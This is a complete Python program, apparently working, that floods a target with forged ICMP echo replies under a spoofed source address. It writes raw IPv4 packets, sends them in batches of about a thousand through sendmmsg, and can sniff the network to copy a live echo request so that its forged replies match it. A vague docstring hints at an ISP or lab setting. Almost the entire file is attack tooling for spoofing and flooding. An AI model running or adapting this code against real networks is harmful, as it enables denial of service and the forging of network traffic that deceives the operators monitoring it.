"""A flood of forged ICMP echo replies, from the ISP's namespace; a program of its own.

    python flooding.py SOURCE DESTINATION RATE SECONDS [once | always]

Python sends some ten thousand packets a second one by one; sendmmsg(2) takes a thousand at a time.
Each packet has an identifier and a payload of its own, drawn at random: one in 65,536 has that of
the engine. With `once`, the flooder waits for a request, as one who once saw the wire, and sends
replies to it with the payload's end changed; with `always`, to the latest request at any time.
"""

import ctypes
import os
import socket
import struct
import sys
import time

_BATCH = 1024
_ETH_P_ALL = 3
_PAYLOAD = 16
_REPLY, _REQUEST = 0, 8


class _Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class _Header(ctypes.Structure):
    """struct msghdr; the socket is connected, so there is no address in it."""

    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint32),
        ("iov", ctypes.POINTER(_Iovec)),
        ("iov_count", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    )


class _Message(ctypes.Structure):
    """struct mmsghdr."""

    _fields_ = (("header", _Header), ("sent", ctypes.c_uint))


class _Burst:
    """A thousand packets that one call sends."""

    def __init__(self, packets: list[bytes]) -> None:
        self._buffers = [ctypes.create_string_buffer(p, len(p)) for p in packets]
        self._vectors = [_Iovec(ctypes.addressof(b), len(b)) for b in self._buffers]
        self._messages = (_Message * len(packets))()
        for message, vector in zip(self._messages, self._vectors, strict=True):
            message.header.iov, message.header.iov_count = ctypes.pointer(vector), 1

    def send(self, sock: socket.socket) -> None:
        _LIBC.sendmmsg(sock.fileno(), self._messages, len(self._messages), 0)


_LIBC = ctypes.CDLL(None, use_errno=True)


def _reply(source: str, destination: str, message: bytes) -> bytes:
    """An IPv4 packet with the echo reply `message`; the kernel puts in the header's checksum."""
    total = sum(struct.unpack(f"!{len(message) // 2}H", message[:2] + b"\0\0" + message[4:]))
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    message = message[:2] + struct.pack("!H", total ^ 0xFFFF) + message[4:]
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(message), 0, 0, 64, 1, 0)
    return header + addresses + message


def _guesses(source: str, destination: str) -> list[bytes]:
    head = bytes([_REPLY, 0, 0, 0])
    return [
        _reply(source, destination, head + os.urandom(4 + _PAYLOAD)) for _ in range(16 * _BATCH)
    ]


def _imitations(source: str, destination: str, request: bytes) -> list[bytes]:
    kept = bytes([_REPLY]) + request[1:-4]
    return [_reply(source, destination, kept + os.urandom(4)) for _ in range(_BATCH)]


def _seen_request(wire: socket.socket) -> bytes | None:
    """The latest echo request that has come along; None if there is none."""
    request = None
    while True:
        try:
            frame = wire.recv(2048)
        except BlockingIOError:
            return request
        message = frame[14 + 20 :]
        if frame[12:14] == b"\x08\x00" and frame[23] == 1 and message[0] == _REQUEST:
            request = message


def main(source: str, destination: str, rate: int, seconds: float, watching: str) -> None:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL))
    wire.setblocking(False)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.connect((destination, 0))
    bursts: list[_Burst] = []
    if not watching:
        packets = _guesses(source, destination)
        bursts = [_Burst(packets[n : n + _BATCH]) for n in range(0, len(packets), _BATCH)]
    began = time.monotonic()
    count = 0
    while (now := time.monotonic()) < began + seconds:
        if watching == "always" or (watching and not bursts):
            request = _seen_request(wire)
            if request is not None:
                bursts = [_Burst(_imitations(source, destination, request))]
        if not bursts or count * _BATCH > (now - began) * rate:
            time.sleep(0.001)
            continue
        bursts[count % len(bursts)].send(sock)
        count += 1


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), "".join(sys.argv[5:]))
